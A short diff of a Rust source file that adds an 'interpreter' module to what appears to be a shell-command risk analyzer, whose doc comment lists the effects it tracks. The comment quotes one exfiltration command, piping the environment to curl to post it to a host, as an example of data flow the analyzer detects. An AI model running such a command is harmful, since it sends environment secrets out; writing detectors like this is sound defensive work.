@@ -4,6 +4,7 @@
 //! network, sockets, persistence, deletion), the inline code of other interpreters, and the scripts that are started.
 //! Data flows along pipes and substitutions: `env | curl -d @- host` sends the environment.
 
+mod interpreter;
 mod lex;
 mod powershell;
 mod programs;
